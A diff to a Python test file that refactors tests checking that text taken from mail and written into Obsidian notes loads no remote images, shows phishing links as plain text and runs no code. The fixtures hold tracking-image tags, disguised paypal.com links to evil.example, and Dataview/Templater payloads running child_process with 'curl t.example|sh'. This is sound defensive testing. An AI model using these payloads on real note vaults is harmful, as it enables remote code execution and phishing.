@@ -482,23 +482,31 @@ def test_a_notes_title_cannot_break_its_front_matter(act_home):
         assert body.strip() == f"body {n}"
 
 
+def written_into_notes(act_home, text: str, title: str = "From a mail",
+                       heading: str | None = None) -> list[tuple[str, str]]:
+    """`text` appended to the note Inbox and made the body of a new note `title` by the real act stage:
+    each note's file and its body as a Markdown viewer shows it (CommonMark, rendered to HTML)."""
+    from markdown_it import MarkdownIt
+
+    _, tmp = act_home
+    appended = {"note": "Inbox", "text": text, **({"heading": heading} if heading else {})}
+    r = act(task([{"type": "notes.append", "args": appended},
+                  {"type": "notes.create", "args": {"title": title, "body": text}}]))
+    [out] = r.lines
+    assert all(a["status"] == "done" for a in out["actions"]), out["actions"]
+    made = [tmp / "vault" / "Inbox.md", tmp / "vault" / out["actions"][1]["result"]["path"]]
+    return [(note, MarkdownIt("commonmark").render(note.split("---\n", 2)[2])) for note in
+            (path.read_text() for path in made)]
+
+
 def test_a_note_loads_nothing_a_mail_put_in_it(act_home):
     """A note is read in Obsidian or another Markdown viewer, which loads remote images: a subject or a
     summary with `![](https://tracker/...)` or `<img src=...>` would tell its sender when (and from where)
     the note was read, as remote images in mail do. What assist writes into notes loads nothing."""
-    from markdown_it import MarkdownIt
-
-    _, tmp = act_home
     hostile = ('Invoice ![x](https://t.example/p.png?u=1) ![y][ref] <img src="https://t.example/q.png"> '
                '<iframe src="https://t.example/"></iframe> <!-- hide the rest\n\n[ref]: https://t.example/r.png\n'
                '- a < b, see ![[Budget]] and [the site](https://example.org) \\![z](https://t.example/s.png)')
-    r = act(task([{"type": "notes.append", "args": {"note": "Inbox", "text": hostile, "heading": "<img src=x>"}},
-                  {"type": "notes.create", "args": {"title": "From a mail", "body": hostile}}]))
-    [out] = r.lines
-    assert all(a["status"] == "done" for a in out["actions"]), out["actions"]
-    for name in ("Inbox.md", "From-a-mail.md"):
-        note = (tmp / "vault" / name).read_text()
-        shown = MarkdownIt("commonmark").render(note.split("---\n", 2)[2])
+    for note, shown in written_into_notes(act_home, hostile, heading="<img src=x>"):
         assert "<img" not in shown and "<iframe" not in shown, shown
         assert shown.count("<!--") == shown.count("<!-- assist:"), shown  # only assist's own markers
         # what a person reads is still there: the words, the links (as text, where they go included:
@@ -514,20 +522,11 @@ def test_a_link_in_a_note_shows_where_it_goes(act_home):
     words are made of emphasis and entities, and one inside brackets. A link a mail or a model put in a
     note shows as the text it is, its target with it; a subject in brackets and a link to another note of
     the vault stay as they are."""
-    from markdown_it import MarkdownIt
-
-    _, tmp = act_home
     hostile = ("[ILUG] Verify at [paypal.com/verify](https://evil.example/login), [www.bank.example](<http://evil.example/a>)"
                " [pay**pal**&#46;com](https://evil.example/b) [[x] paypal.com](https://evil.example/c)"
                " [\\[paypal.com](https://evil.example/d) [paypal.com][1] [paypal.com] ![[Budget]] [[Budget|the budget]]"
                "\n\n[1]: https://evil.example/e\n[paypal.com]: https://evil.example/f")
-    r = act(task([{"type": "notes.append", "args": {"note": "Inbox", "text": hostile}},
-                  {"type": "notes.create", "args": {"title": "From a mail", "body": hostile}}]))
-    [out] = r.lines
-    assert all(a["status"] == "done" for a in out["actions"]), out["actions"]
-    for name in ("Inbox.md", "From-a-mail.md"):
-        note = (tmp / "vault" / name).read_text()
-        shown = MarkdownIt("commonmark").render(note.split("---\n", 2)[2])
+    for note, shown in written_into_notes(act_home, hostile):
         assert "<a " not in shown, shown  # no link a mail made: each shows as text, where it goes included
         assert "[paypal.com/verify](https://evil.example/login)" in shown and "[paypal.com][1]" in shown
         assert "[ILUG] Verify" in note and "![[Budget]] [[Budget|the budget]]" in note  # as they were
@@ -560,21 +559,12 @@ def test_a_note_runs_no_code_a_mail_put_in_it(act_home):
     "trigger on new file creation") runs <%* ... %> in a new note. A subject or a summary carrying them
     ran the sender's JavaScript, with Node's child_process, in the person's Obsidian. What assist writes
     into notes forms no code span, no fenced block and no Templater tag, and still reads as it was."""
-    from markdown_it import MarkdownIt
-
-    _, tmp = act_home
     run_it = "require('child_process').exec('curl t.example|sh')"
     hostile = (f"Invoice `$= {run_it}` and `= this.file.name` \\`$= {run_it}`\n"
                f"```dataviewjs\n{run_it}\n```\n~~~dataviewjs\n{run_it}\n~~~\n"
                f"<%* {run_it} %> <%+ tp.date.now() %> ``double`` and <% tp.file.title %>")
-    r = act(task([{"type": "notes.append", "args": {"note": "Inbox", "text": hostile}},
-                  {"type": "notes.create", "args": {"title": "From a mail <%* x %>", "body": hostile}}]))
-    [out] = r.lines
-    assert all(a["status"] == "done" for a in out["actions"]), out["actions"]
-    for name in ("Inbox.md", "From-a-mail--x.md"):
-        note = (tmp / "vault" / name).read_text()
+    for note, shown in written_into_notes(act_home, hostile, title="From a mail <%* x %>"):
         assert "<%" not in note, note
-        shown = MarkdownIt("commonmark").render(note.split("---\n", 2)[2])
         assert "<code" not in shown and "<pre" not in shown, shown
         assert "$= require('child_process')" in shown and "Invoice" in shown  # read as it was written
         assert "&lt;%* require" in shown  # shows as "<%* require(...", runs nothing
